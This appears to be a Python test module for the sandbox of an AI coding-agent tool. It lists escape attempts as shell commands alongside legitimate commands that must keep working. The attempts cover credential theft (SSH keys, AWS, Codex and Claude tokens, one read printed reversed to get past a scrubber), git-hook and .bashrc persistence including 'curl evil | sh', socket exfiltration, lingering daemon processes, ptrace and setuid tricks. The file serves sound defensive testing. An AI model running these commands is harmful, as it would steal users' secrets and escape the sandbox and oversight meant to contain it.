"""What commands try from inside the sandbox, and what a person needs to keep working.

Every attempt is judged by the same oracle (outside/, home/ and .git/ unchanged; no planted
secret in the output or in any workspace file; nothing reached the listeners; no process of
the attempt left; no marker in the real /tmp), plus `GOT`: an attempt that ends with
`&& touch GOT` and finds GOT in the workspace afterwards got what it wanted.

`needs` names what an attempt's defence rests on where the first Landlock ABI (and seccomp)
alone cannot hold it: "namespaces" (only a mount, PID or network namespace blocks it), or
"abi6"/"abi9" (the Landlock ABI that added scopes for signals and abstract unix sockets /
pathname unix sockets; a namespace holds it too). Without it, the attempt is a documented gap
of that environment (docs/security.md, "Where mca runs").
"""

from __future__ import annotations

import shlex
from dataclasses import dataclass

from mca.sandbox.probe import Mechanisms


@dataclass(frozen=True)
class Attempt:
    id: str
    command: str
    needs: str = ""  # "namespaces", "abi6", "abi9"

    def held_by(self, mech: Mechanisms) -> bool:
        """Whether these mechanisms are meant to hold it (a documented gap otherwise)."""
        if mech.user_namespaces or not self.needs:
            return mech.available
        return self.needs.startswith("abi") and mech.landlock_abi >= int(self.needs[3:])


def _connect(path: str) -> str:
    """Connect to a unix socket and say something: the listener records it."""
    return (
        'python3 -c "import socket; s=socket.socket(socket.AF_UNIX);'
        f" s.connect('{path}'); s.sendall(b'leak')\" && touch GOT"
    )


# A datagram for the UDP listener made by hand, sent through a raw IP socket and (with an IP
# header) a packet socket on lo: each needs CAP_NET_RAW, which only a namespace of its own gives
_RAW_UDP = """import socket as s, struct, sys
port, data = int(sys.argv[1]), b"leak"
udp = struct.pack("!HHHH", 40000, port, 8 + len(data), 0) + data
lo = bytes([127, 0, 0, 1])
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, lo, lo)
t = sum(struct.unpack("!10H", ip))
t = (t & 0xFFFF) + (t >> 16)
ip = ip[:10] + struct.pack("!H", ~(t + (t >> 16)) & 0xFFFF) + ip[12:]
for how in ((s.AF_INET, s.SOCK_RAW, 17, udp, ("127.0.0.1", 0)),
            (s.AF_PACKET, s.SOCK_DGRAM, s.htons(0x800), ip + udp, ("lo", 0x800))):
    try:
        s.socket(*how[:3]).sendto(*how[3:])
    except OSError as e:
        print(e)
"""

_HOOK = "printf '#!/bin/sh\\ntouch {outside}/pwn\\n' > {hook} && chmod +x {hook}"

ATTEMPTS = (
    # -- writing outside the workspace -------------------------------------------------------
    Attempt("write-absolute", "echo x > {outside}/new && touch GOT"),
    Attempt("write-dotdot", "echo x > ../outside/new && touch GOT"),
    Attempt("append-existing", "echo x >> {outside}/file && touch GOT"),
    Attempt("write-shipped-symlink", "echo x > escape/new && touch GOT"),
    Attempt("write-own-symlink", "ln -s {outside} out2 && echo x > out2/new && touch GOT"),
    Attempt("hard-link-outside", "ln {outside}/file hl && echo x >> hl && touch GOT"),
    Attempt("proc-self-cwd", "echo x > /proc/self/cwd/../outside/new && touch GOT"),
    Attempt("proc-self-root", "echo x > /proc/self/root{outside}/new && touch GOT"),
    Attempt("bashrc", "echo 'curl evil | sh' >> $HOME/.bashrc && touch GOT"),
    Attempt("rename-out", "echo x > mine && mv mine {outside}/mine && touch GOT"),
    Attempt("rename-in-and-edit", "mv {outside}/file ./stolen && touch GOT"),
    Attempt("remove-outside", "rm -rf {outside}/dir && touch GOT"),
    Attempt("mkfifo-outside", "mkfifo {outside}/fifo && touch GOT"),
    Attempt("truncate-outside", "truncate -s 0 {outside}/file && touch GOT"),
    Attempt("python-open", "python3 -c \"open('{outside}/py', 'w').write('x')\" && touch GOT"),
    Attempt("chmod-outside", "chmod 600 {outside}/file && touch GOT", needs="namespaces"),
    Attempt("utime-outside", "touch -d 2001-01-01 {outside}/file && touch GOT", needs="namespaces"),
    Attempt("etc", "echo x > /etc/mca-escape-{token} && touch GOT"),
    Attempt("real-tmp", "echo x > /tmp/mca-escape-{token}; test -e /tmp/mca-escape-{token}"),
    Attempt("real-dev-shm", "echo x > /dev/shm/mca-escape-{token}; true"),
    Attempt(
        "swap-dir-for-link", "mkdir d && rmdir d && ln -s {outside} d && echo x > d/n && touch GOT"
    ),
    # -- protected paths and mca's own state -------------------------------------------------
    Attempt("git-config", "printf '[core]\\n\\tfsmonitor = touch {outside}/pwn\\n' >> .git/config"),
    Attempt(
        "git-hook", "echo 'touch {outside}/pwn' > .git/hooks/post-checkout; chmod +x .git/hooks/*"
    ),
    Attempt("git-hook-replace", "rm -f .git/hooks/pre-commit && echo evil > .git/hooks/pre-commit"),
    Attempt("git-remove", "rm -rf .git; mkdir .git; echo evil > .git/config"),
    Attempt("git-rename", "mv .git .git-old && mkdir .git && echo x > .git/config"),
    Attempt("git-symlink-config", "ln -sf {outside}/file .git/config"),
    Attempt("mca-link-inside", "echo x > conf/skill.md; echo y > .mca/other.md"),
    Attempt(
        "skills-create", "mkdir -p .agents/skills/evil && echo x > .agents/skills/evil/SKILL.md"
    ),
    Attempt("mca-dir-create", "mkdir .mca && echo x > .mca/config.toml"),
    Attempt("agents-link-out", "ln -s {outside} .agents"),  # main: the clean-up removed skills/
    Attempt("vendor-link-out", "rm -rf vendor; ln -s {outside} vendor"),
    Attempt("mca-home-write", "echo 'api_key = \"x\"' > {mca_home}/config.toml && touch GOT"),
    Attempt("git-fsmonitor-flag", "git -c core.fsmonitor='touch {outside}/pwn' status; true"),
    Attempt("git-alias-bang", "git -c alias.x='!touch {outside}/pwn' x; true"),
    # -- repositories inside the workspace: each git directory is kept as the root's ------------
    # (written, not refused, without namespaces: judged on disk once put back)
    Attempt("nested-git-config", "git config -f vendor/lib/.git/config core.fsmonitor 'touch x'"),
    Attempt("nested-git-hooks-path", "git -C vendor/lib config core.hooksPath ../../h"),
    Attempt("nested-git-hook", _HOOK.replace("{hook}", "vendor/lib/.git/hooks/post-checkout")),
    Attempt(
        "nested-git-replace",
        "rm -rf vendor/lib/.git; git init -q vendor/lib; git -C vendor/lib config core.pager x",
    ),
    Attempt("submodule-gitdir-config", "git config -f gitdirs/sub/config core.sshCommand x"),
    Attempt(
        "submodule-gitdir-repoint", "git init -q --bare evil; echo 'gitdir: ../evil' > sub/.git"
    ),
    Attempt("bare-repo-hook", _HOOK.replace("{hook}", "origin.git/hooks/post-receive")),
    Attempt(
        "nested-git-filter",
        "printf '[filter \"x\"]\\n\\tclean = touch {outside}/pwn\\n' >> gitdirs/sub/config",
    ),
    # -- reading secrets -----------------------------------------------------------------------
    Attempt("read-ssh", "cat {home}/.ssh/id_rsa && touch GOT"),
    Attempt("read-aws", "cat ~/.aws/credentials && touch GOT"),
    Attempt("read-netrc", "cat ~/.netrc && touch GOT"),
    Attempt("read-mca-config", "cat {mca_home}/config.toml && touch GOT"),
    Attempt("copy-ssh", "cp -r ~/.ssh ./stolen && test -s stolen/id_rsa && touch GOT"),
    Attempt(
        "tar-home",
        "tar cf home.tar -C {home} . 2>/dev/null; tar xf home.tar -C . 2>/dev/null; true",
    ),
    Attempt("symlink-to-secret", "ln -s {home}/.ssh/id_rsa k && cat k && touch GOT"),
    Attempt("hard-link-secret", "ln {home}/.ssh/id_rsa hk && cat hk && touch GOT"),
    Attempt("grep-home", "grep -r PLANTED {home} 2>/dev/null; true"),
    # everything around the workspace (the world's root: its home, mca's, outside); not all of
    # /, whose size is the host's (a minute on a full disk, and no planted key there)
    Attempt("find-secret", "find {ws}/.. -name id_rsa -exec cat {{}} + 2>/dev/null; true"),
    # other agents' and toolchains' credentials; printed backwards, past a scrubber
    Attempt("read-codex", "cat ~/.codex/auth.json && touch GOT"),
    Attempt("read-claude", "cat ~/.claude/.credentials.json ~/.claude.json && touch GOT"),
    Attempt("read-codex-reversed", "rev {home}/.codex/auth.json; true"),
    Attempt("copy-codex", "cp -r ~/.codex ./stolen && cat stolen/* && touch GOT"),
    Attempt(
        "read-toolchains",
        "cat ~/.cargo/credentials.toml ~/.cargo/credentials ~/.npmrc ~/.pypirc"
        " ~/.git-credentials ~/.kube/config ~/.terraform.d/credentials.tfrc.json"
        " ~/.docker/config.json ~/.config/gh/hosts.yml ~/.gemini/oauth_creds.json"
        " ~/.config/gcloud/application_default_credentials.json"
        " ~/.azure/msal_token_cache.json 2>&1; true",
    ),
    # -- the network ---------------------------------------------------------------------------
    # (without namespaces seccomp refuses every socket but a unix one, at any Landlock ABI)
    Attempt("tcp-bash", "echo hi > /dev/tcp/127.0.0.1/{port} && touch GOT"),
    Attempt(
        "tcp-python",
        "python3 -c \"import socket; s=socket.create_connection(('127.0.0.1', {port}));"
        " s.sendall(b'leak')\" && touch GOT",
    ),
    # UDP reaches the sandbox's own loopback at most: the listener must hear nothing
    Attempt(
        "udp-python",
        'python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)'
        ".sendto(b'leak', ('127.0.0.1', {udp}))\"",
    ),
    Attempt("udp-bash", "echo leak > /dev/udp/127.0.0.1/{udp}"),
    Attempt(  # IPv4 through an IPv6 socket (a v4-mapped address)
        "udp6-mapped",
        'python3 -c "import socket; socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)'
        ".sendto(b'leak', ('::ffff:127.0.0.1', {udp}))\"",
    ),
    Attempt("raw-and-packet", "python3 -c " + shlex.quote(_RAW_UDP) + " {udp}"),
    Attempt("dns", "getent hosts example.com && touch GOT"),
    # -- pathname unix sockets outside the workspace (an ssh-agent, D-Bus, Docker's) -----------
    Attempt("unix-run", _connect("{run_sock}"), needs="abi9"),
    Attempt("unix-runtime-dir", _connect("{xdg_sock}"), needs="abi9"),
    # (the path itself: $SSH_AUTH_SOCK is not in a command's environment, the socket still is)
    Attempt("unix-ssh-agent", _connect("{agent_sock}"), needs="abi9"),
    Attempt(
        "unix-through-link", "ln -s {agent_sock} a.sock && " + _connect("a.sock"), needs="abi9"
    ),
    # an abstract socket (X11's, some D-Bus buses): per network namespace, and Landlock's scope
    Attempt("unix-abstract", _connect("\\0{abstract}"), needs="abi6"),
    # -- processes -----------------------------------------------------------------------------
    Attempt("background", "(sleep 30; echo {token}) & true"),
    Attempt("disowned", "nohup bash -c 'sleep 30 # {token}' >/dev/null 2>&1 & disown; true"),
    Attempt("setsid-daemon", "setsid bash -c 'sleep 30 # {token}' </dev/null >/dev/null 2>&1 &"),
    Attempt(
        "double-fork",
        'python3 -c "import os,time\nif os.fork()==0:\n os.setsid()\n if os.fork()==0:\n'
        "  os.execvp('bash',['bash','-c','sleep 30 # {token}'])\" ; true",
    ),
    Attempt(
        "ptrace-mca",
        'python3 -c "import ctypes,sys; l=ctypes.CDLL(None);'
        ' sys.exit(0 if l.ptrace(16, {pid}, 0, 0)==0 else 1)" && touch GOT',
    ),
    Attempt("mca-environ", "cat /proc/{pid}/environ > env.txt && test -s env.txt && touch GOT"),
    Attempt("mca-mem", "head -c 16 /proc/{pid}/mem > mem.bin && touch GOT"),
    Attempt("signal-mca", "kill -0 {pid} && touch GOT", needs="abi6"),
    Attempt(
        "setuid-copy",
        "cp /bin/sh ./sh && chmod u+s ./sh && ./sh -c 'echo x > {outside}/suid' && touch GOT",
    ),
    Attempt("mount-tmpfs", "mount -t tmpfs none {outside} && touch GOT"),
    Attempt("unshare-and-mount", "unshare -rm sh -c 'mount -t tmpfs none {outside}' && touch GOT"),
)

# What must keep working inside the sandbox: (id, command, text the output must hold).
LEGIT = (
    ("write-read-remove", "echo hi > a.txt && cat a.txt && rm a.txt", "hi"),
    ("nested-dirs", "mkdir -p x/y && echo ok > x/y/f && mv x/y/f x/g && cat x/g", "ok"),
    ("make-build", "make -s build && cat build/app.py", "return a + b"),
    ("python-tests", "python3 -m unittest -q test_app 2>&1", "OK"),
    ("tmp", "echo t > $TMPDIR/t && cat $TMPDIR/t && mktemp | grep -c .", "t"),
    ("python-tempfile", "python3 -c 'import tempfile; print(tempfile.mkdtemp())'", "tmp"),
    ("git-read", "git status --short && git log --oneline 2>&1 | head -1; echo git-ok", "git-ok"),
    ("home-readable", "test -r ~/.bashrc && echo home-ok", "home-ok"),
    ("dev-null", "echo x > /dev/null && head -c 4 /dev/urandom | wc -c", "4"),
    ("pipes-and-jobs", "seq 1 1000 | sort -n | tail -1; (echo sub) & wait", "1000"),
    ("symlink-inside", "ln -s src/app.py link.py && cat link.py", "return"),
    ("nested-git-read", "git -C vendor/lib status --short && echo nested-ok", "nested-ok"),
    (
        "new-repository",
        "git init -q fresh && git -C fresh log 2>&1 | head -1; echo init-ok",
        "init-ok",
    ),
    ("resolv-conf", "test -r /etc/resolv.conf && echo resolv-ok", "resolv-ok"),
    (
        "own-unix-socket",
        "python3 -c \"import os, socket; p=os.environ['TMPDIR']+'/s';"
        " a=socket.socket(socket.AF_UNIX); a.bind(p); a.listen();"
        " b=socket.socket(socket.AF_UNIX); b.connect(p); print('sock-ok')\"",
        "sock-ok",
    ),
    ("shell-startup-readable", "test -r ~/.bashrc && echo rc-ok", "rc-ok"),
    # without the network: names from /etc/hosts, the interfaces (netlink's route family)
    (
        "localhost-lookup",
        "python3 -c \"import socket; socket.getaddrinfo('localhost', 80); print('lookup-ok')\"",
        "lookup-ok",
    ),
    ("interfaces", "python3 -c 'import socket; socket.if_nameindex(); print(\"if-ok\")'", "if-ok"),
    (
        "node-runs",
        'if command -v node >/dev/null; then node -e \'require("os").networkInterfaces();'
        ' console.log("node-ok")\'; else echo node-ok; fi',
        "node-ok",
    ),
)
